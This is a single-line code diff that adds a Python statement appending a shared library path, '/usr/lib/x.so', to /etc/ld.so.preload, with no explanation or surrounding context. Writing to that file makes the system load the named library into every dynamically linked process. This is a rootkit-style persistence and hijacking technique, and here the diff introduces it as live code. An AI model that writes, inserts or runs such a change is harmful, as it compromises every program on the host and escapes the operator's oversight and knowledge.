@@ -1,0 +1,1 @@
+open("/etc/ld.so.preload", "a").write("/usr/lib/x.so")
